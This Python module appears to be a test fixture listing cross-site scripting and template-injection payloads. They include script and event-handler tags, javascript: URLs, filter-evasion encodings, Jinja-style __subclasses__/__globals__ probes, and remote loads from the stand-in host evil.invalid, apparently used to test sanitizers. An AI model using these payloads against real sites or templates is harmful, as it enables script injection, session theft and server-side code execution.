"""Texts that would command a browser, a template engine or a reader's eye."""

from __future__ import annotations

#: What a payload does where it gets through: the title of the page is changed, or a request goes out.
RUN = "document.title='run'"
AWAY = "https://evil.invalid/x"

PAYLOADS = [
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT\t>",
    f"<script src={AWAY}></script>",
    "<script src=//evil.invalid/x></script>",
    f'<img src=x onerror="{RUN}">',
    f"<img src=x onerror={RUN} //",
    f'"><img src={AWAY} onload={RUN}>',
    f"'><svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg/onload={RUN}>",
    f"</title><script>{RUN}</script>",
    f"</desc></svg><img src=x onerror={RUN}>",
    f"</style><script>{RUN}</script>",
    f"</style><style>@import '{AWAY}';</style>",
    f"<style>body{{display:none;background:url({AWAY})}}</style>",
    f"<link rel=stylesheet href={AWAY}>",
    f'<meta http-equiv=refresh content="0;url={AWAY}">',
    f"<base href={AWAY}>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data={AWAY}></object><embed src={AWAY}>",
    f"<form action={AWAY}><input autofocus onfocus={RUN}></form>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<math><mtext></table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<a href=javascript:{RUN}>x</a>",
    f"javascript:{RUN}",
    f" JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    f'" onmouseover="{RUN}" style="position:fixed;inset:0" autofocus onfocus="{RUN}" x="',
    f"' onclick='{RUN}' x='",
    f"` onload=`{RUN}`",
    "{{ ''.__class__.__mro__ }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ self.__init__.__globals__ }}{# x #}${7*7}#{7*7}<%= 7*7 %>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;&#60;img src=x onerror={RUN}&#62;",
    f"-->]]><![CDATA[<script>{RUN}</script>]]>",
    "left \u202e right \u2066 first \u2069\u202c \u200f last \x00\x08\x1b[31m\x85\ufeff\ud800 end",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\u00bcscript\u00be{RUN}\u00bc/script\u00be \uff1cscript\uff1e{RUN}",
]
